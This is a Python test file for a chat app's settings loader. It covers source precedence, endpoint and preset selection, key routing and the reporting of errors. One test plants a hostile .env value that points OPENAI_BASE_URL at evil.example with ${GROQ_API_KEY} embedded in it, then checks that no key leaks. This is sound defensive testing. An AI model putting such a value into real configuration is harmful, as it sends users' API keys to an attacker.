"""Settings come from the strongest source that names them, and keys go where they belong."""

import os
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatapp.config import COMMAND_LINE, Settings, load_settings
from chatapp.config.layers import ENVIRONMENT
from chatapp.core.context import CompactPolicy
from chatapp.core.endpoints import Endpoint, Secret
from chatapp.core.messages import ModelRef
from chatapp.providers.presets import PRESETS

LOCAL = ModelRef("local", "smollm2-135m-instruct")


@dataclass
class Person:
    """Somebody's machine: variables and the two files."""

    folder: Path
    environ: dict[str, str] = field(default_factory=dict)

    def write(self, *, config: str = "", dotenv: str = "") -> "Person":
        (self.folder / "config.toml").write_text(config, encoding="utf-8")
        (self.folder / ".env").write_text(dotenv, encoding="utf-8")
        return self

    def settings(self, **flags: str) -> Settings:
        return load_settings(flags, self.environ, self.folder, self.folder, PRESETS)


@pytest.fixture
def person(tmp_path: Path) -> Person:
    return Person(tmp_path)


def endpoint(settings: Settings, name: str) -> Endpoint:
    (found,) = [endpoint for endpoint in settings.endpoints if endpoint.name == name]
    return found


def names(settings: Settings) -> list[str]:
    return [endpoint.name for endpoint in settings.endpoints]


class TestPrecedence:
    @given(
        st.fixed_dictionaries(
            {},
            optional={
                source: st.sampled_from(["0.1", "0.5", "1.5"])
                for source in ("flag", "environment", "dotenv", "config")
            },
        )
    )
    def test_the_strongest_source_that_speaks_is_heard(self, said: Mapping[str, str]) -> None:
        with TemporaryDirectory() as folder:
            person = Person(Path(folder))
            person.write(
                config=f"temperature = {said['config']}\n" if "config" in said else "",
                dotenv=f"CHATAPP_TEMPERATURE={said['dotenv']}\n" if "dotenv" in said else "",
            )
            if "environment" in said:
                person.environ["CHATAPP_TEMPERATURE"] = said["environment"]
            flags = {"temperature": said["flag"]} if "flag" in said else {}
            settings = person.settings(**flags)
        order = ("flag", "environment", "dotenv", "config")
        expected = next((float(said[source]) for source in order if source in said), None)
        assert settings.sampling.temperature == expected
        assert not settings.problems

    def test_every_option_is_read_everywhere(self, person: Person) -> None:
        person.write(config='system = "c"\ntheme = "nord"', dotenv="CHATAPP_SYSTEM=d")
        person.environ["CHATAPP_MAX_TOKENS"] = "10"
        settings = person.settings(temperature="0")
        assert (settings.system, settings.theme) == ("d", "nord")
        assert (settings.sampling.temperature, settings.sampling.max_tokens) == (0.0, 10)

    def test_the_context_window_and_what_to_do_when_it_is_full(self, person: Person) -> None:
        assert person.settings().compact is CompactPolicy.ASK
        person.write(config='context_window = 8192\ncompact = "auto"')
        settings = person.settings()
        assert (settings.context_window, settings.compact) == (8192, CompactPolicy.AUTO)
        problems = person.settings(compact="always", context_window="0").problems
        assert [problem.allowed for problem in problems] == [
            "a whole number above 0",
            "ask, auto or off",
        ]

    def test_an_empty_variable_is_unset_but_an_empty_flag_is_not(self, person: Person) -> None:
        person.write(config='system = "c"')
        person.environ |= {"CHATAPP_SYSTEM": "", "OPENAI_BASE_URL": " ", "OPENAI_API_KEY": ""}
        settings = person.settings()
        assert settings.system == "c"
        assert names(settings) == ["local"]
        assert person.settings(system="").system == ""

    def test_dotenv_leaves_the_environment_alone(self, person: Person) -> None:
        before = dict(os.environ)
        person.write(dotenv="CHATAPP_SYSTEM=x\nOPENAI_API_KEY=sk-1").settings()
        assert dict(os.environ) == before


class TestEndpoints:
    def test_nothing_configured_is_the_embedded_model(self, person: Person) -> None:
        settings = person.settings()
        assert settings.model == LOCAL
        assert names(settings) == ["local"]
        assert settings.endpoints[0].is_embedded

    def test_a_key_configures_its_preset(self, person: Person) -> None:
        person.environ["DEEPSEEK_API_KEY"] = "sk-deep"
        settings = person.settings()
        assert names(settings) == ["deepseek", "local"]
        assert endpoint(settings, "deepseek").api_key == Secret("sk-deep")
        assert settings.model == ModelRef("deepseek", "deepseek-flash")

    def test_order_is_address_tables_presets_embedded(self, person: Person) -> None:
        person.write(config='[endpoints.mine]\nbase_url = "http://h/v1"\n[endpoints.ollama]')
        person.environ |= {"GROQ_API_KEY": "k", "OPENAI_BASE_URL": "http://127.0.0.1:8399/v1/"}
        settings = person.settings()
        assert names(settings) == ["127.0.0.1:8399", "mine", "ollama", "groq", "local"]
        assert names(person.settings(endpoint="groq"))[0] == "groq"
        assert names(person.settings(model="ollama/qwen3:4b"))[0] == "ollama"
        assert names(person.settings(endpoint="local"))[0] == "local"

    def test_an_address_of_a_preset_has_its_name_and_quirks(self, person: Person) -> None:
        person.environ |= {
            "OPENAI_BASE_URL": "https://api.mistral.ai/v1/",
            "OPENAI_API_KEY": "sk-m",
        }
        settings = person.settings()
        assert names(settings) == ["mistral", "local"]
        mistral = endpoint(settings, "mistral")
        assert (mistral.api_key, mistral.quirks.continue_field) == (Secret("sk-m"), "prefix")
        assert settings.model == ModelRef("mistral", "mistral-small-latest")

    def test_an_address_of_a_table_is_that_table(self, person: Person) -> None:
        table = '[endpoints.work]\nbase_url = "http://w/v1"\napi_key = "sk-w"\nmodels = ["m"]'
        settings = person.write(config=table).settings(base_url="http://w/v1")
        assert names(settings) == ["work", "local"]
        assert settings.model == ModelRef("work", "m")

    def test_a_table_says_all_there_is_to_say(self, person: Person) -> None:
        person.environ["PROXY_KEY"] = "sk-p"
        person.write(
            config="""
            [endpoints.proxy]
            preset = "moonshot"
            base_url = "https://proxy.example/v1"
            api_key_env = "PROXY_KEY"
            models = ["a", "b/c"]
            has_stream_options = false
            continue_field = ""
            max_tokens_field = "max_completion_tokens"
            """
        )
        proxy = endpoint(person.settings(), "proxy")
        assert (proxy.base_url, proxy.api_key) == ("https://proxy.example/v1", Secret("sk-p"))
        assert proxy.models == ("a", "b/c")
        assert proxy.quirks.has_stream_options is False
        assert proxy.quirks.continue_field is None
        assert proxy.quirks.max_tokens_field == "max_completion_tokens"

    def test_a_preset_asked_for_by_name_needs_its_key_said(self, person: Person) -> None:
        deepseek = person.settings(endpoint="deepseek").endpoints[0]
        assert (deepseek.api_key, deepseek.needs_key) == (None, True)
        assert deepseek.key_variable == "DEEPSEEK_API_KEY"
        ollama = person.settings(endpoint="ollama").endpoints[0]
        assert (ollama.needs_key, ollama.base_url) == (False, "http://localhost:11434/v1")


class TestModel:
    @pytest.mark.parametrize(
        ("environ", "flags", "expected"),
        [
            ({"CHATAPP_MODEL": "deepseek/x"}, {}, ("deepseek", "x")),
            (
                {"OPENROUTER_API_KEY": "k"},
                {"model": "meta-llama/llama-3"},
                ("openrouter", "meta-llama/llama-3"),
            ),
            (
                {"OPENROUTER_API_KEY": "k"},
                {"endpoint": "openrouter", "model": "openai/gpt-x"},
                ("openrouter", "openai/gpt-x"),
            ),
            (
                {"OPENAI_BASE_URL": "https://gateway/v1", "CHATAPP_MODEL": "openai/gpt-x"},
                {},
                ("gateway", "openai/gpt-x"),
            ),
            (
                {"OPENAI_BASE_URL": "https://gateway/v1"},
                {"model": "deepseek/x"},
                ("deepseek", "x"),
            ),
            ({"OPENAI_BASE_URL": "https://gateway/v1"}, {"model": "m"}, ("gateway", "m")),
            ({"OPENAI_BASE_URL": "https://gateway/v1"}, {}, ("gateway", "")),
            ({"CHATAPP_MODEL": "m"}, {"base_url": "https://gateway/v1"}, ("gateway", "m")),
            (
                {"OPENAI_API_KEY": "k", "CHATAPP_MODEL": "gpt-x"},
                {"endpoint": "deepseek"},
                ("deepseek", "deepseek-flash"),
            ),
            ({"OPENAI_API_KEY": "k"}, {"model": "gpt-x"}, ("openai", "gpt-x")),
            ({}, {"endpoint": "ollama"}, ("ollama", "")),
        ],
    )
    def test_it_is_found(
        self,
        person: Person,
        environ: dict[str, str],
        flags: dict[str, str],
        expected: tuple[str, str],
    ) -> None:
        person.environ |= environ
        settings = person.settings(**flags)
        assert settings.model == ModelRef(*expected)
        assert settings.endpoints[0].name == expected[0]
        assert not settings.problems

    def test_without_an_endpoint_it_is_said_and_not_asked_of_the_embedded(
        self, person: Person
    ) -> None:
        person.environ["CHATAPP_MODEL"] = "gpt-x"
        settings = person.settings()
        assert settings.model == LOCAL
        (problem,) = settings.problems
        assert problem.file == ENVIRONMENT
        assert "OPENAI_API_KEY" in problem.allowed


class TestKeys:
    def test_the_openai_key_goes_with_the_address_and_not_to_openai(self, person: Person) -> None:
        person.environ |= {"OPENAI_API_KEY": "sk-1", "OPENAI_BASE_URL": "http://host/v1"}
        settings = person.settings()
        assert names(settings) == ["host", "local"]
        assert endpoint(settings, "host").api_key == Secret("sk-1")

    def test_it_does_not_go_to_openai_when_the_address_is_wrong(self, person: Person) -> None:
        person.environ |= {"OPENAI_API_KEY": "sk-1", "OPENAI_BASE_URL": "host:8000/v1"}
        settings = person.settings()
        assert names(settings) == ["local"]
        assert [problem.file for problem in settings.problems] == [ENVIRONMENT]

    @pytest.mark.parametrize("reference", ["", "OPENAI_API_KEY=${OPENAI_API_KEY}"])
    def test_a_strangers_dotenv_gets_no_key_of_the_person(
        self, person: Person, reference: str
    ) -> None:
        person.environ |= {"OPENAI_API_KEY": "sk-own", "GROQ_API_KEY": "sk-groq"}
        person.write(
            dotenv=f"OPENAI_BASE_URL=http://evil.example/${{GROQ_API_KEY}}/v1\n{reference}"
        )
        settings = person.settings()
        evil = endpoint(settings, "evil.example")
        for own in ("sk-own", "sk-groq"):
            assert evil.api_key is None or evil.api_key.reveal() != own
            assert own not in evil.base_url
        assert endpoint(settings, "openai").api_key == Secret("sk-own")

    def test_a_dotenv_may_choose_a_service_the_person_has_a_key_for(self, person: Person) -> None:
        person.environ |= {"OPENAI_API_KEY": "sk-own", "DEEPSEEK_API_KEY": "sk-deep"}
        for address, name, key in (
            ("https://api.openai.com/v1", "openai", "sk-own"),
            ("https://api.deepseek.com", "deepseek", "sk-deep"),
        ):
            settings = person.write(dotenv=f"OPENAI_BASE_URL={address}").settings()
            assert (settings.endpoints[0].name, settings.endpoints[0].base_url) == (name, address)
            assert settings.endpoints[0].api_key == Secret(key)

    def test_a_dotenv_is_whole_by_itself(self, person: Person) -> None:
        person.write(dotenv="OPENAI_BASE_URL=http://host/v1\nexport OPENAI_API_KEY='sk-2'")
        settings = person.settings()
        assert endpoint(settings, "host").api_key == Secret("sk-2")
        assert names(settings) == ["host", "local"]

    @given(st.text("abcdef0123456789", min_size=12, max_size=20))
    def test_no_key_is_ever_shown(self, key: str) -> None:
        with TemporaryDirectory() as folder:
            person = Person(Path(folder))
            person.environ |= {
                "OPENAI_API_KEY": f"sk-{key}",
                "DEEPSEEK_API_KEY": f"sk-{key}",
                "CHATAPP_TEMPERATURE": f"sk-{key}",
                "CHATAPP_MAX_TOKENS": f"sk-{key}",
                "OPENAI_BASE_URL": f"https://user:sk-{key}@host/v1",
            }
            person.write(
                config=f'temperature = "sk-{key}"\n[endpoints.a]\napi_key = ["sk-{key}"]\n'
                f'base_url = "sk-{key}"\n[endpoints.b]\nbase_url = "http://b"\n'
                f'api_key = "sk-{key}"\npreset = "sk-{key}"\n[broken\napi_key = sk-{key}\n',
                dotenv=f"OPENAI_API_KEY=sk-{key}\n'sk-{key}\n",
            )
            settings = person.settings(temperature=f"sk-{key}")
            shown = repr(settings) + str(settings) + "".join(map(str, settings.problems))
        assert len(settings.problems) >= 8
        assert key not in shown


class TestProblems:
    def test_a_wrong_flag_is_told_from_the_rest(self, person: Person) -> None:
        person.environ["CHATAPP_MAX_TOKENS"] = "0"
        settings = person.settings(temperature="hot", endpoint="opnai")
        by_flag = [p.message for p in settings.problems if p.file == COMMAND_LINE]
        assert by_flag == [
            "--temperature has a wrong value",
            "opnai is no endpoint; did you mean openai?",
        ]
        assert [p.allowed for p in settings.problems if p.file == ENVIRONMENT] == [
            "a whole number above 0"
        ]
        assert settings.model == LOCAL

    def test_a_dotenv_line_that_is_none_is_named(self, person: Person) -> None:
        person.write(dotenv="CHATAPP_SYSTEM=hi\n'broken\nCHATAPP_TEMPERATURE=3\n")
        settings = person.settings()
        assert settings.system == "hi"
        assert [problem.line for problem in settings.problems] == [2, 3]

    def test_files_that_cannot_be_read_are_named(self, person: Person) -> None:
        person.folder.joinpath("config.toml").write_bytes(b"\xff\xfe")
        person.folder.joinpath(".env").write_bytes(b"A=\xff")
        settings = person.settings()
        assert [Path(p.file).name for p in settings.problems] == ["config.toml", ".env"]
        assert settings.model == LOCAL

    @pytest.mark.parametrize("text", ["é" * 40_000, "aé" * 30_000, f"A={' ' * 300}b"])
    def test_a_dotenv_too_long_to_be_one_is_left_out(self, person: Person, text: str) -> None:
        person.write(dotenv=f"CHATAPP_SYSTEM=hi\n# {text}")
        settings = person.settings()
        assert settings.system == ""
        assert ["too long" in problem.message for problem in settings.problems] == [True]
